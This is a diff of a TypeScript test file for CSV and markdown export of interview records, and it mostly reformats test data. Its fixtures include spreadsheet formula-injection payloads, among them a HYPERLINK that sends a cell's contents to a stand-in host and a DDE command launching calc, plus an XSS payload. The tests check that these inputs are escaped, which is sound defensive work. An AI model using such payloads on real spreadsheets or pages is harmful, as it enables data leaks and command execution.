@@ -12,8 +12,21 @@ import { isoInZone } from '../../src/model/text/isoTime';
 import { mdCell, mdQuote, mdText } from '../../src/model/text/markdownText';
 
 const HOSTILE = [
-  '=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+2', '-2+3', '@SUM(A1:A9)', '\tleading tab', '\rleading CR',
-  '＝1+1', 'a,b', 'say "hi"', 'two\nlines', 'crlf\r\nend', ' padded ', '代码还行，只是不够聪明', '😀 emoji', '',
+  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+  '+1+2',
+  '-2+3',
+  '@SUM(A1:A9)',
+  '\tleading tab',
+  '\rleading CR',
+  '＝1+1',
+  'a,b',
+  'say "hi"',
+  'two\nlines',
+  'crlf\r\nend',
+  ' padded ',
+  '代码还行，只是不够聪明',
+  '😀 emoji',
+  '',
 ];
 
 const readCsv = (text: string): string[][] => parse(text, { bom: true, relax_column_count: false }) as string[][];
@@ -51,24 +64,42 @@ describe('CSV', () => {
     assert.equal(csvField('a;b'), '"a;b"');
     assert.equal(csvField('say "hi"'), '"say ""hi"""');
     assert.equal(csvField('x\ny'), '"x\ny"');
-    assert.equal(csvField('=1+1'), "'=1+1");
+    assert.equal(csvField('=1+1'), '\'=1+1');
     assert.equal(csvField('-1,5'), `"'-1,5"`);
     assert.equal(csvField('\tx'), `"'\tx"`);
   });
 });
 
 const interview = parseInterview({
-  id: '7100000000000000001', begin_time: Date.UTC(2021, 3, 20, 15, 45), end_time: Date.UTC(2021, 3, 20, 16, 30), round: 1, stage_id: '42',
-  interview_record_list: [
-    { id: '7100000000000000011', user_id: 'ou_1', content: '=cmd|\' /C calc\'!A0\n代码还行，只是不够聪明', conclusion: 1, commit_status: 1,
-      min_job_level_id: 'mlevel5', max_job_level_id: 'mlevel7',
-      interview_score: { id: 's', level: 3, zh_name: '3', zh_description: '通过', en_name: 'three', en_description: 'Pass' } },
-    { id: '7100000000000000012', user_id: 'ou_2', content: '<img src=x onerror=alert(1)> [link](http://evil.example) | # heading', conclusion: 4, commit_status: 2 },
-  ],
+  id: '7100000000000000001',
+  begin_time: Date.UTC(2021, 3, 20, 15, 45),
+  end_time: Date.UTC(2021, 3, 20, 16, 30),
+  round: 1,
+  stage_id: '42',
+  interview_record_list: [{
+    id: '7100000000000000011',
+    user_id: 'ou_1',
+    content: '=cmd|\' /C calc\'!A0\n代码还行，只是不够聪明',
+    conclusion: 1,
+    commit_status: 1,
+    min_job_level_id: 'mlevel5',
+    max_job_level_id: 'mlevel7',
+    interview_score: { id: 's', level: 3, zh_name: '3', zh_description: '通过', en_name: 'three', en_description: 'Pass' },
+  }, {
+    id: '7100000000000000012',
+    user_id: 'ou_2',
+    content: '<img src=x onerror=alert(1)> [link](http://evil.example) | # heading',
+    conclusion: 4,
+    commit_status: 2,
+  }],
 }, 'item');
 
 const rows: ExportRow[] = interview.interview_record_list.map((record, i) => ({
-  applicationId: '6949805467799537964', candidate: '张伟', job: '高级前端工程师', interview, record,
+  applicationId: '6949805467799537964',
+  candidate: '张伟',
+  job: '高级前端工程师',
+  interview,
+  record,
   names: { interviewer: i === 0 ? '李娜' : '@Sarah', stage: '初试', minLevel: i === 0 ? 'P5 级' : undefined, maxLevel: i === 0 ? 'P7 级' : undefined },
 }));
 
@@ -82,7 +113,7 @@ describe('export builders', () => {
     const col = (name: string): number => header!.indexOf(name);
     assert.equal(first![col('Candidate')], '张伟');
     assert.equal(first![col('Interviewer')], '李娜');
-    assert.equal(second![col('Interviewer')], "'@Sarah");
+    assert.equal(second![col('Interviewer')], '\'@Sarah');
     assert.equal(first![col('Round')], '2');
     assert.equal(first![col('Start (ISO 8601)')], '2021-04-20T23:45:00+08:00');
     assert.equal(first![col('End (ISO 8601)')], '2021-04-21T00:30:00+08:00');
@@ -92,7 +123,7 @@ describe('export builders', () => {
     assert.equal(first![col('Score level')], '3');
     assert.equal(first![col('Conclusion')], 'Pass');
     assert.equal(second![col('Commit status')], 'Not submitted');
-    assert.equal(first![col('Notes')], "'=cmd|' /C calc'!A0\n代码还行，只是不够聪明");
+    assert.equal(first![col('Notes')], '\'=cmd|\' /C calc\'!A0\n代码还行，只是不够聪明');
     assert.equal(first![col('Record ID')], '7100000000000000011');
   });
 
